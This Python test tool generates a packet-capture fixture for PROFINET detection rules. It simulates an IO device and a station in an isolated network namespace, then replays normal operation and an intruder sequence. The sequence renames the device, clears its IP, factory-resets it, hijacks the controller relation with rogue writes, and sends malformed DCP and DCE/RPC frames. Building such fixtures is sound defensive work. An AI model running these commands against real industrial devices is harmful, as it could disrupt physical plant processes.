#!/usr/bin/env python3
"""Makes `rules/profinet/captures/attack.pcap`: pnio-dcp against an IO device.

    python3 tests/tools/capture_profinet.py FILE.pcap

The two are at the ends of a veth pair in a network namespace of their own, and `dumpcap`
listens at the device's end; that needs the right to make both (root). DCP requests are
pnio-dcp's; what it does not send (hello, a message that contradicts itself, alarms, the
context manager's calls over DCE/RPC) goes as raw frames. The device is the responder
below, which answers as IEC 61158-6-10 says, from another port than it is asked on, as
devices do. The capture is made once and kept; the script says how, and makes another of
the same shape.

    02:00:00:00:10:05  192.168.10.5   IO device `boiler-io`
    02:00:00:00:20:05  192.168.10.20  engineering station and IO controller
    02:00:00:00:30:09  192.168.10.99  intruder

Made with pnio-dcp 1.2 and Wireshark 4.0.
"""

import os
import socket
import struct
import subprocess
import sys
import threading
import time
import uuid

DEVICE, STATION, INTRUDER = (
    ("02:00:00:00:10:05", "192.168.10.5"),
    ("02:00:00:00:20:05", "192.168.10.20"),
    ("02:00:00:00:30:09", "192.168.10.99"),
)
ETHERTYPE = 0x8892
CONTEXT_MANAGER = 34964
VENDOR, DEVICE_ID = 0x0FFE, 0x0107
OBJECT = uuid.UUID(f"dea00000-6c97-11d1-8271-0001{DEVICE_ID:04x}{VENDOR:04x}")
INTERFACE = uuid.UUID("dea00001-6c97-11d1-8271-00a02442df7d")
CONNECT, RELEASE, READ, WRITE, CONTROL, READ_IMPLICIT = range(6)
ACCESS_DENIED = 0xDF80B600
FAULTY_AR_BLOCK = 0xDB810101


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def raw_socket(interface: str, ethertype: int) -> socket.socket:
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ethertype))
    raw.bind((interface, 0))
    return raw


# The device.


class Device:
    """An IO device, as far as it answers."""

    def __init__(self) -> None:
        self.name = b"boiler-io"
        self.ip = socket.inet_aton(DEVICE[1]) + socket.inet_aton("255.255.255.0") + bytes(4)
        self.layer2 = raw_socket("device", ETHERTYPE)
        threading.Thread(target=self.dcp, daemon=True).start()
        threading.Thread(target=self.context_manager, daemon=True).start()

    def blocks(self, wanted: set[tuple[int, int]] | None) -> bytes:
        mine = {
            (2, 1): b"EX-1000",
            (2, 2): self.name,
            (2, 3): struct.pack(">HH", VENDOR, DEVICE_ID),
            (2, 4): bytes([1, 0]),
            (2, 7): struct.pack(">H", 100),
            (1, 2): self.ip,
        }
        out = b""
        for code, value in mine.items():
            if wanted is None or code in wanted:
                info = 1 if code == (1, 2) else 0
                block = bytes(code) + struct.pack(">HH", len(value) + 2, info) + value
                out += block + bytes(len(block) % 2)
        return out

    def set(self, code: tuple[int, int], value: bytes) -> int:
        if code == (2, 2) and b"-" not in value:
            return 6  # in operation, it keeps the name that its relation is for
        if code == (2, 2):
            self.name = value
        elif code == (1, 2):
            self.ip = value
        elif code not in {(5, 3), (5, 5), (5, 6)}:
            return 2
        return 0

    def dcp(self) -> None:
        while True:
            frame = self.layer2.recv(2000)
            source = frame[6:12]
            if source == mac(DEVICE[0]) or len(frame) < 26:
                continue
            frame_id, service, kind, xid, _, length = struct.unpack(">HBBIHH", frame[14:26])
            data = frame[26 : 26 + length]
            if frame_id not in {0xFEFD, 0xFEFE} or kind != 0 or service not in {3, 4, 5}:
                continue
            if service == 5:
                frame_id, answer = 0xFEFF, self.blocks(None)
            elif service == 3:
                answer = self.blocks(set(zip(data[::2], data[1::2])))
            else:
                (size,) = struct.unpack(">H", data[2:4])
                if len(data) < 4 + size:
                    continue
                error = self.set((data[0], data[1]), data[6 : 4 + size])
                answer = bytes([5, 4, 0, 3, data[0], data[1], error, 0])
            head = struct.pack(">HBBIHH", frame_id, service, 1, xid, 0, len(answer))
            self.send(source, head + answer)

    def send(self, to: bytes, payload: bytes) -> None:
        frame = to + mac(DEVICE[0]) + struct.pack(">H", ETHERTYPE) + payload
        self.layer2.send(frame.ljust(60, b"\0"))

    def context_manager(self) -> None:
        raw = raw_socket("device", 0x0800)
        while True:
            frame = raw.recv(2000)
            if frame[6:12] == mac(DEVICE[0]) or frame[23] != 17:
                continue
            source, port, to_port = frame[26:30], *struct.unpack(">HH", frame[34:38])
            if to_port != CONTEXT_MANAGER:
                continue
            pdu = frame[42:]
            answer = self.call(pdu)
            packet = udp(DEVICE, (frame[6:12], source), 49152, port, answer)
            raw.send(packet)

    def call(self, pdu: bytes) -> bytes:
        (opnum,) = struct.unpack(">H", pdu[68:70])
        blocks, status, out = pdu[100:], 0, b""
        while len(blocks) >= 6:
            kind, length = struct.unpack(">HH", blocks[:4])
            body, blocks = blocks[6 : 4 + length], blocks[4 + length :]
            if len(body) != length - 2:
                status = FAULTY_AR_BLOCK
            elif kind == 0x0101:
                out += block(0x8101, body[:20] + mac(DEVICE[0]) + struct.pack(">H", ETHERTYPE))
            elif kind == 0x0102:
                out += block(0x8102, body[:4] + body[14:16])
            elif kind == 0x0103:
                out += block(0x8103, struct.pack(">HHH", 1, 5, 200))
            elif kind == 0x0008:
                (index,) = struct.unpack(">H", body[28:30])
                status = ACCESS_DENIED if index == 0x0100 else 0
                out += block(0x8008, body[:34] + struct.pack(">HHI", 0, 0, status) + bytes(16))
                blocks = b""
            elif kind == 0x0009:
                im0 = block(0x0020, struct.pack(">H", VENDOR) + b"EX-1000".ljust(52))
                head = body[:30] + struct.pack(">I", len(im0)) + bytes(24)
                out += block(0x8009, head) + im0
            elif 0x0110 <= kind <= 0x0118:
                out += block(kind | 0x8000, body[:22] + struct.pack(">HH", 8, 0))
        return rpc(pdu, 2, opnum, status, out)


# Frames.


def block(kind: int, body: bytes) -> bytes:
    return struct.pack(">HHH", kind, len(body) + 2, 0x0100) + body


def rpc(request: bytes | None, kind: int, opnum: int, first: int, blocks: bytes) -> bytes:
    """A call, or the answer to one: header of C706, 12.5, and the arguments."""
    n = len(blocks)
    body = struct.pack(">IIIII", first, n, n, 0, n) + blocks
    activity, sequence = (
        (request[40:56], request[64:68]) if request else (rpc.activity, struct.pack(">I", rpc.n))
    )
    rpc.n += request is None
    return (
        struct.pack(">BBBB4s", 4, kind, 0x20 if request is None else 0x0A, 0, bytes(4))
        + OBJECT.bytes
        + INTERFACE.bytes
        + activity
        + struct.pack(">II4sHHHHHBB", 0, 1, sequence, opnum, 0xFFFF, 0xFFFF, len(body), 0, 0, 0)
        + body
    )


rpc.n = 0
rpc.activity = uuid.UUID("5ca1ab1e-0000-1000-8000-020000002005").bytes


def udp(src, dst, port: int, to_port: int, data: bytes) -> bytes:
    """A frame; addresses are texts or bytes. The checksum of UDP is left out."""
    octets = lambda value, f: value if isinstance(value, bytes) else f(value)
    src_mac, dst_mac = octets(src[0], mac), octets(dst[0], mac)
    addresses = octets(src[1], socket.inet_aton) + octets(dst[1], socket.inet_aton)
    length = 8 + len(data)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 1, 0, 64, 17, 0) + addresses
    total = sum(struct.unpack(">10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    head = head[:10] + struct.pack(">H", ~total & 0xFFFF) + head[12:]
    return (
        dst_mac + src_mac + b"\x08\x00" + head
        + struct.pack(">HHHH", port, to_port, length, 0) + data
    )


# What the stations do.


class Controller:
    """An IO controller, or somebody who plays one."""

    def __init__(self, own: tuple[str, str], relation: int, port: int) -> None:
        self.own, self.port, self.key = own, port, relation
        self.relation = uuid.UUID(int=relation << 96 | 0x1000_8000 << 48 | 0x0200).bytes
        self.raw = raw_socket("station", 0x0800)

    def call(self, opnum: int, blocks: bytes) -> None:
        pdu = rpc(None, 0, opnum, 0x1000, blocks)
        self.raw.send(udp(self.own, DEVICE, self.port, CONTEXT_MANAGER, pdu))
        time.sleep(0.05)

    def connect(self, name: bytes) -> None:
        relation = struct.pack(">H16sH", 1, self.relation, self.key) + mac(self.own[0])
        relation += OBJECT.bytes + struct.pack(">IHHH", 0x111, 100, ETHERTYPE, len(name)) + name
        blocks = block(0x0101, relation)
        for kind, frame_id in (1, 0x8001), (2, 0xFFFF):
            cyclic = struct.pack(">HHHIHHHH", kind, kind, ETHERTYPE, 2, 40, frame_id, 32, 32)
            cyclic += struct.pack(">HHIHHH6sH", 1, 0, 0xFFFFFFFF, 3, 3, 0xC000, bytes(6), 0)
            blocks += block(0x0102, cyclic)
        modules = struct.pack(">HIHIHH", 1, 0, 1, 0x10, 0, 1)
        modules += struct.pack(">HIHHHBB", 1, 1, 1, 1, 4, 1, 1)
        blocks += block(0x0104, modules)
        alarms = struct.pack(">HHIHHHHHH", 1, ETHERTYPE, 0, 1, 3, 9, 200, 0xC000, 0xA000)
        self.call(CONNECT, blocks + block(0x0103, alarms))

    def record(self, kind: int, slot: int, index: int, length: int) -> bytes:
        relation = self.relation if kind == 0x0008 else bytes(16)
        head = struct.pack(">H16sIHHHHI", 1, relation, 0, slot, 1, 0, index, length)
        return block(kind, head + bytes(24))

    def write(self, slot: int, index: int, data: bytes) -> None:
        self.call(WRITE, self.record(0x0008, slot, index, len(data)) + data)

    def read(self, opnum: int, slot: int, index: int) -> None:
        self.call(opnum, self.record(0x0009, slot, index, 1024))

    def control(self, opnum: int, kind: int, command: int) -> None:
        body = struct.pack(">H16sHHHH", 0, self.relation, self.key, 0, command, 0)
        self.call(opnum, block(kind, body))


def become(own: tuple[str, str]) -> None:
    for command in (
        "ip addr flush dev station",
        "ip link set station down",
        f"ip link set station address {own[0]}",
        "ip link set station up",
        f"ip addr add {own[1]}/24 dev station",
    ):
        subprocess.run(command.split(), check=True)
    time.sleep(0.5)


def operate() -> None:
    """What happens all day: a device is found, named, parameterized."""
    from pnio_dcp import DCP

    become(STATION)
    dcp = DCP(STATION[1])
    dcp.identify_all(timeout=1)
    dcp.get_name_of_station(DEVICE[0])
    dcp.set_name_of_station(DEVICE[0], "boiler-io")
    dcp.set_ip_address(DEVICE[0], [DEVICE[1], "255.255.255.0", "0.0.0.0"])
    controller = Controller(STATION, 7, 49200)
    controller.connect(b"boiler-plc")
    controller.write(1, 0x0001, bytes(range(16)))
    controller.control(CONTROL, 0x0110, 1)
    controller.read(READ_IMPLICIT, 1, 0xAFF0)


def attack(device: Device) -> None:
    from pnio_dcp import DCP
    from pnio_dcp.pnio_dcp import ResetFactoryModes

    become(INTRUDER)
    dcp = DCP(INTRUDER[1])
    dcp.identify_all(timeout=1)
    dcp.get_ip_address(DEVICE[0])
    dcp.blink(DEVICE[0])
    dcp.set_name_of_station(DEVICE[0], "owned")
    dcp.set_name_of_station(DEVICE[0], "boiler-io-2")
    dcp.set_ip_address(DEVICE[0], ["192.168.10.77", "255.255.255.0", "192.168.10.99"], False)
    dcp.set_ip_address(DEVICE[0], ["0.0.0.0", "0.0.0.0", "0.0.0.0"])
    dcp.reset_to_factory(DEVICE[0], ResetFactoryModes.RESET_DEVICE)
    dcp.factory_reset(DEVICE[0])
    controller = Controller(INTRUDER, 66, 49300)
    controller.read(READ_IMPLICIT, 0, 0xAFF0)
    controller.connect(b"not-a-plc")
    controller.write(1, 0x0100, b"\x01\x02\x03\x04")
    controller.write(1, 0xAFF1, b"taken over".ljust(54))
    controller.control(CONTROL, 0x0118, 64)
    controller.control(RELEASE, 0x0114, 4)


def raw(device: Device) -> None:
    """What pnio-dcp cannot send."""
    layer2 = raw_socket("station", ETHERTYPE)

    def send(source: str, to: str, payload: str) -> None:
        frame = mac(to) + mac(source) + struct.pack(">H", ETHERTYPE) + bytes.fromhex(payload)
        layer2.send(frame.ljust(60, b"\0"))
        time.sleep(0.02)

    # Blocks that are longer than the frame, and a block that is longer than its frame.
    send(INTRUDER[0], DEVICE[0], "fefd0400 00000bad 0000 07ff 0202 07fb 0001")
    send(INTRUDER[0], DEVICE[0], "fefd0400 00000bae 0000 0008 0202 00ff 00016161")
    # A service that no answer knows, and the answer that it is not supported.
    send(INTRUDER[0], DEVICE[0], "fefd0200 00000baf 0000 0000")
    device.send(mac(INTRUDER[0]), bytes.fromhex("fefd0205 00000baf 0000 0000"))
    # The device after its restart, and what it says of an address that another has.
    hello = "fefc0600 00000001 0000 0022 0202 000b 0000 626f696c65722d696f 00 0203 0006 0000 0ffe 0107 0207 0004 0000 0064"
    device.send(mac("01:0e:cf:00:00:01"), bytes.fromhex(hello))
    conflict = "feff0501 0bad0001 0000 0012 0102 000e 0081 c0a80a05 ffffff00 00000000"
    device.send(mac(STATION[0]), bytes.fromhex(conflict))
    # An unknown device: another vendor.
    other = "feff0501 01000001 0000 0016 0202 0008 0000 726f67756531 0203 0006 0000 4242 0001"
    send(INTRUDER[0], STATION[0], other)
    # A module is pulled; the controller acknowledges.
    pull = "fc01 0001 0009 11 11 ffff fffe 001e 0001 001a 0100 0003 00000000 0001 0001 00000010 00000001 8001 0000 0000"
    device.send(mac(STATION[0]), bytes.fromhex(pull))
    send(STATION[0], DEVICE[0], "fc01 0009 0001 1111 fffe ffff 0016 8001 0012 0100 0003 00000000 0001 0001 8001 00000000")
    # A call whose block exceeds its arguments.
    controller = Controller(INTRUDER, 66, 49300)
    controller.call(CONNECT, bytes.fromhex("0101 0fff 0100 0001") + bytes(40))


def main() -> None:
    [path] = sys.argv[1:]
    if os.environ.get("IN_NAMESPACE") is None:
        own = dict(os.environ, IN_NAMESPACE="1")
        command = ["unshare", "--net", sys.executable, os.path.abspath(__file__), path]
        sys.exit(subprocess.run(command, env=own).returncode)
    for command in (
        "sysctl -qw net.ipv6.conf.all.disable_ipv6=1",
        "sysctl -qw net.ipv6.conf.default.disable_ipv6=1",
        "ip link add station type veth peer name device",
        f"ip link set device address {DEVICE[0]}",
        "ip link set device up",
        "ip link set lo up",
    ):
        subprocess.run(command.split(), check=True)
    become(STATION)
    listen = ["dumpcap", "-q", "-P", "-i", "device", "-f", "ether proto 0x8892 or udp", "-w", path]
    capture = subprocess.Popen(listen, stderr=subprocess.DEVNULL)
    time.sleep(2)
    try:
        device = Device()
        operate()
        attack(device)
        raw(device)
        time.sleep(1.5)
    finally:
        capture.terminate()
        capture.wait()


if __name__ == "__main__":
    main()
